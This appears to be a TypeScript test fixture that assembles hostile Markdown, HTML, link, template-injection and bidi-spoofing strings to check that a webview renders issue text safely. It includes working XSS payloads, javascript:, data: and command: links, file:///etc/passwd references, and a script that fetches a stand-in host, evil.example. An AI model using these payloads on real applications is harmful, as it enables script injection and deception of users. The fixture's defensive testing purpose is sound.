/** Texts as somebody would write them who wants a webview to run, to load or to mislead. A script that runs sets `hostileRan`. */
export interface HostileText {
	readonly title: string;
	/** Markdown. */
	readonly description: string;
	/** With a stack trace. */
	readonly trace: string;
}

const RUN = 'globalThis.hostileRan=1;fetch("https://evil.example/ran")';
const HTML = [
	`<script>${RUN}</script>`,
	`<img src="https://evil.example/x.png" onerror='${RUN}'>`,
	`<svg onload='${RUN}'><animate onbegin='${RUN}' attributeName=x></svg>`,
	`<iframe src="https://evil.example/"></iframe><iframe srcdoc='<script>${RUN}</script>'></iframe>`,
	`<a href='javascript:${RUN}'>x</a><details open ontoggle='${RUN}'>`,
	`<style>@import "https://evil.example/x.css";body{background:url(https://evil.example/y)}</style>`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<math><mtext><table><mglyph><style><!--</style><img src onerror='${RUN}'>`,
].join('\n');
const LINKS = [
	`[x](javascript:${encodeURI(RUN)})`,
	`[x](data:text/html;base64,${btoa(`<script>${RUN}</script>`)})`,
	'[x](command:workbench.action.quit) [x](vscode://file/etc/passwd) [x](file:///etc/passwd)',
	'![x](https://evil.example/pixel.png) ![x](javascript:alert(1)) ![x][r]',
	'[x](//evil.example/x) [x](https://evil.example/ok "title\\" onmouseover=alert(1)")',
	'<javascript:alert(1)> <https://evil.example/auto>',
	'[r]: data:image/svg+xml;base64,PHN2Zz4=',
].join('\n\n');
const INJECTIONS = [
	'{{constructor.constructor("globalThis.hostileRan=1")()}}',
	['$', '{globalThis.hostileRan=1} {0} {title} %s &lt;b&gt; \\u003cscript\\u003e'].join(''),
].join(' ');
const BIDI =
	'safe\u202egnp.exe\u2066 {\u202d if (admin) \u2069 \u200f\u061c\u200b\u0000\u001b[31m\u001b]8;;https://evil.example\u0007';

const traceOf = (text: string) =>
	`TypeError: ${text.replaceAll('\n', ' ')}
    at ${text.split('\n')[0]?.slice(0, 300)} (/srv/shop/src/price.js:4:48)
    at <script>${'x'.repeat(500)}</script> (javascript:alert(1):4:14)
    at f (https://evil.example/"onload="x/app.js:1:1)`;

/** By what they try. */
export const corpus: readonly HostileText[] = [HTML, LINKS, INJECTIONS, BIDI, 'w'.repeat(10_000)].map((text) => ({
	title: text.replaceAll('\n', ' '),
	description: `${text}\n\n# ${text.slice(0, 500)}\n\n| a | ${text.slice(0, 200).replaceAll('\n', ' ')} |\n|---|---|\n| ${text.slice(0, 200).replaceAll('\n', ' ')} | b |\n\n\`\`\`html\n${text}\n\`\`\``,
	trace: traceOf(text),
}));
